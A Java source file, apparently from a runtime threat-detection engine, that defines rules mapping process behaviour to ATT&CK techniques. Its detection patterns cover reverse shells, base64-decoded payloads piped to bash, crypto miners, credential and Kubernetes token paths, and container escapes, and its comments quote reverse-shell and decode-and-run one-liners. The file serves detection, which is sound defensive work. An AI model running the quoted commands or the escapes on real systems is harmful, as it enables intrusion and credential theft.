package io.sightline.engine;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The built-in behaviours and the ATT&CK techniques they map to.
 *
 * <p>TODO: the rule set is code for now; it should be data (YAML) that users can extend, with a
 * rarity score from history so that a behaviour seen daily on a CI runner does not alarm. Both
 * come with the engine's full-depth work.
 */
final class Behaviours {

    static final Technique EXPLOIT_PUBLIC_APP =
            new Technique("T1190", "Exploit Public-Facing Application", Tactic.INITIAL_ACCESS);
    static final Technique UNIX_SHELL =
            new Technique("T1059.004", "Command and Scripting Interpreter: Unix Shell", Tactic.EXECUTION);
    static final Technique INGRESS_TOOL_TRANSFER =
            new Technique("T1105", "Ingress Tool Transfer", Tactic.COMMAND_AND_CONTROL);
    static final Technique RESOURCE_HIJACKING = new Technique("T1496", "Resource Hijacking", Tactic.IMPACT);
    static final Technique STEAL_APP_TOKEN =
            new Technique("T1528", "Steal Application Access Token", Tactic.CREDENTIAL_ACCESS);
    static final Technique CONTAINER_API =
            new Technique("T1552.007", "Unsecured Credentials: Container API", Tactic.CREDENTIAL_ACCESS);
    static final Technique CONTAINER_DISCOVERY =
            new Technique("T1613", "Container and Resource Discovery", Tactic.DISCOVERY);
    static final Technique EXPLOIT_REMOTE_SERVICE =
            new Technique("T1210", "Exploitation of Remote Services", Tactic.LATERAL_MOVEMENT);
    static final Technique WEB_SHELL =
            new Technique("T1505.003", "Server Software Component: Web Shell", Tactic.PERSISTENCE);
    static final Technique ESCAPE_TO_HOST = new Technique("T1611", "Escape to Host", Tactic.PRIVILEGE_ESCALATION);
    static final Technique CREDENTIALS_IN_FILES =
            new Technique("T1552.001", "Unsecured Credentials: Credentials In Files", Tactic.CREDENTIAL_ACCESS);
    static final Technique CLOUD_METADATA =
            new Technique("T1552.005", "Unsecured Credentials: Cloud Instance Metadata API", Tactic.CREDENTIAL_ACCESS);
    static final Technique FILE_PERMISSIONS =
            new Technique("T1222.002", "File and Directory Permissions Modification: Linux", Tactic.DEFENSE_EVASION);
    static final Technique HIDDEN_FILES =
            new Technique("T1564.001", "Hide Artifacts: Hidden Files and Directories", Tactic.DEFENSE_EVASION);
    static final Technique USER_DISCOVERY = new Technique("T1033", "System Owner/User Discovery", Tactic.DISCOVERY);
    static final Technique APP_LAYER_PROTOCOL =
            new Technique("T1071", "Application Layer Protocol", Tactic.COMMAND_AND_CONTROL);

    static final Technique NON_APP_LAYER_PROTOCOL =
            new Technique("T1095", "Non-Application Layer Protocol", Tactic.COMMAND_AND_CONTROL);
    static final Technique DEOBFUSCATE =
            new Technique("T1140", "Deobfuscate/Decode Files or Information", Tactic.DEFENSE_EVASION);

    static final Technique CONTAINER_ADMIN_COMMAND =
            new Technique("T1609", "Container Administration Command", Tactic.EXECUTION);

    static final String METADATA_ADDRESS = "169.254.169.254";

    private static final Set<String> RUNTIME_SHIMS =
            Set.of("runc", "containerd-shim", "containerd-shim-runc-v2", "crun", "conmon", "runc:[2:INIT]");
    private static final Pattern HOST_DEVICE_MOUNT =
            Pattern.compile(".*(/dev/(sd|nvme|xvd|vd|hd)[a-z0-9]*|-t\\s*cgroup|\\bcgroup\\b).*");

    private static final Set<String> SHELLS = Set.of("sh", "bash", "dash", "ash", "zsh", "ksh", "busybox");
    private static final Set<String> WEB_SERVERS =
            Set.of("httpd", "apache2", "nginx", "php-fpm", "lighttpd", "caddy", "uwsgi", "gunicorn");
    /** They start shells by design: a login is not an exploit. */
    private static final Set<String> LOGIN_SERVICES =
            Set.of("sshd", "dropbear", "telnetd", "login", "su", "sudo", "runuser", "systemd", "init");

    /** Markers of a servlet container or Spring Boot in a JVM's arguments (class names, paths). */
    private static final Pattern SERVLET_CONTAINER =
            Pattern.compile("catalina|tomcat|jetty|wildfly|jboss|org\\.springframework\\.boot");
    /** Bash's network redirections, and netcat handing a shell to the connection. */
    private static final Pattern REVERSE_SHELL =
            Pattern.compile("/dev/(tcp|udp)/[^/\\s]+/\\d+|\\bn(c|cat)\\b.*\\s-[ec]\\s*\\S*sh\\b");

    private static final Pattern BASE64_BLOB = Pattern.compile("[A-Za-z0-9+/]{16,}={0,2}");

    private static final Set<String> DOWNLOADERS = Set.of("curl", "wget", "fetch", "tftp");
    private static final Set<String> USER_DISCOVERY_TOOLS = Set.of("id", "whoami", "uname", "hostname", "w");
    private static final Set<String> CONTAINER_TOOLS = Set.of("crictl", "ctr", "docker", "kubectl", "nerdctl");
    private static final Set<Integer> MINER_PORTS = Set.of(3333, 4444, 5555, 5556, 7777, 9999, 14433, 14444, 45700);
    private static final Pattern MINER_ARGS = Pattern.compile("stratum\\+(tcp|ssl)://|--donate-level|xmrig|minexmr");
    private static final Pattern WEB_SCRIPT = Pattern.compile(".*\\.(jsp|jspx|php|phtml|asp|aspx|cgi)$");
    private static final Pattern TOKEN_PATH =
            Pattern.compile("/var/run/secrets/(kubernetes\\.io|eks\\.amazonaws\\.com)/serviceaccount/.*token");
    private static final Pattern CREDENTIAL_PATH = Pattern.compile(
            "/var/lib/kubelet/kubeconfig|/etc/kubernetes/.*\\.(conf|kubeconfig)|.*/\\.aws/credentials|/etc/shadow"
                    + "|.*/\\.kube/config|/var/lib/kubelet/pki/.*");

    private Behaviours() {}

    /** The container runtime's own processes: what {@code kubectl exec} and probes start from. */
    static boolean isRuntimeShim(ProcessNode node) {
        return RUNTIME_SHIMS.contains(node.name()) || node.name().startsWith("containerd-shim");
    }

    /** A mount of a host block device or a cgroup hierarchy from inside a container. */
    static boolean isHostMount(ProcessNode node) {
        return node.name().equals("mount")
                && HOST_DEVICE_MOUNT.matcher(node.arguments).matches();
    }

    /** Writing a cgroup v1 {@code release_agent} runs a host command: the classic escape. */
    static boolean isCgroupReleaseAgent(String path) {
        return path.endsWith("/release_agent");
    }

    /**
     * What a spawn looks like as a pattern for rarity: parent and child names, and for {@code sh -c
     * "cmd ..."} the command's first word, so routine jobs repeat and one-off payloads stand out.
     */
    static String spawnPattern(ProcessNode parent, ProcessNode child) {
        String[] words = child.arguments.trim().split("\\s+");
        String command = "";
        if (words.length > 1 && words[0].equals("-c")) {
            command = words[1].replace("\"", "").replace("'", "");
        } else if (words.length > 0) {
            command = words[0];
        }
        return parent.name() + ">" + child.name() + " " + command;
    }

    static boolean isShell(String name) {
        return SHELLS.contains(name);
    }

    /**
     * A process that serves requests: it accepted inbound connections, or it is a web server
     * known to run CGI children, but never a login service. A shell under such a process is how a
     * remote exploit shows.
     */
    static boolean isServer(ProcessNode node) {
        if (LOGIN_SERVICES.contains(node.name())) {
            return false;
        }
        return node.acceptedInbound || WEB_SERVERS.contains(node.name()) || isServletContainer(node);
    }

    /**
     * A JVM that runs a servlet container (Tomcat's {@code catalina}, Jetty, WildFly/JBoss) or a
     * Spring Boot application serves requests even when no sensor reported an accept: neither
     * auditd (execs only) nor Sysmon for Linux (no inbound event in its default config) does.
     */
    static boolean isServletContainer(ProcessNode node) {
        return node.name().equals("java")
                && SERVLET_CONTAINER
                        .matcher(node.arguments.toLowerCase(Locale.ROOT))
                        .find();
    }

    /** A command that hands a shell to a network connection ({@code bash -i >& /dev/tcp/h/p 0>&1}). */
    static boolean isReverseShell(String command) {
        return REVERSE_SHELL.matcher(command).find();
    }

    /**
     * The payload of a command that decodes base64 to run it ({@code echo QmFz… | base64 -d | bash},
     * {@code {echo,QmFz…}|{base64,-d}|{bash,-i}}): the decoded text of its first blob that is
     * printable ASCII.
     */
    static Optional<String> decodedPayload(ProcessNode node) {
        if (!node.arguments.contains("base64")) {
            return Optional.empty();
        }
        Matcher blob = BASE64_BLOB.matcher(node.arguments);
        while (blob.find()) {
            try {
                String text = new String(Base64.getDecoder().decode(blob.group()), StandardCharsets.US_ASCII);
                if (text.chars().allMatch(c -> c == '\n' || c == '\t' || (c >= 0x20 && c < 0x7f))) {
                    return Optional.of(text.strip());
                }
            } catch (IllegalArgumentException notBase64) {
                // A path or a word that only looks like base64: try the next one.
            }
        }
        return Optional.empty();
    }

    static boolean isDownloader(ProcessNode node) {
        return DOWNLOADERS.contains(node.name()) && node.arguments.contains("://");
    }

    static boolean isMiner(ProcessNode node) {
        return MINER_ARGS.matcher(node.arguments.toLowerCase(Locale.ROOT)).find();
    }

    static boolean isMinerPort(int port) {
        return MINER_PORTS.contains(port);
    }

    static boolean isNsenterToHost(ProcessNode node) {
        return node.name().equals("nsenter") && node.arguments.matches(".*(-t\\s*1\\b|--target[= ]1\\b).*");
    }

    static boolean isPermissionChange(ProcessNode node) {
        return node.name().equals("chmod") && node.arguments.matches(".*(\\+x|\\b[0-7]?7[0-7]{2}\\b).*");
    }

    static boolean isHiddenDirectory(ProcessNode node) {
        return node.name().equals("mkdir") && node.arguments.matches(".*/\\.[^/ .][^/ ]*.*");
    }

    static boolean isUserDiscovery(ProcessNode node) {
        return USER_DISCOVERY_TOOLS.contains(node.name());
    }

    static boolean isContainerTool(ProcessNode node) {
        return CONTAINER_TOOLS.contains(node.name());
    }

    static boolean isWebScript(String path) {
        return WEB_SCRIPT.matcher(path.toLowerCase(Locale.ROOT)).matches();
    }

    static boolean isServiceAccountToken(String path) {
        return TOKEN_PATH.matcher(path).matches();
    }

    static boolean isCredentialFile(String path) {
        return CREDENTIAL_PATH.matcher(path).matches();
    }

    /** Public unicast: not private (RFC 1918), loopback, link-local or carrier-grade NAT. */
    static boolean isPublicAddress(String address) {
        String[] parts = address.split("\\.");
        if (parts.length != 4) {
            return false;
        }
        int a;
        int b;
        try {
            a = Integer.parseInt(parts[0]);
            b = Integer.parseInt(parts[1]);
        } catch (NumberFormatException e) {
            return false;
        }
        boolean privateRange = a == 10 || (a == 172 && b >= 16 && b <= 31) || (a == 192 && b == 168);
        boolean special = a == 127 || a == 0 || (a == 169 && b == 254) || (a == 100 && b >= 64 && b <= 127);
        return !privateRange && !special && a < 224;
    }
}
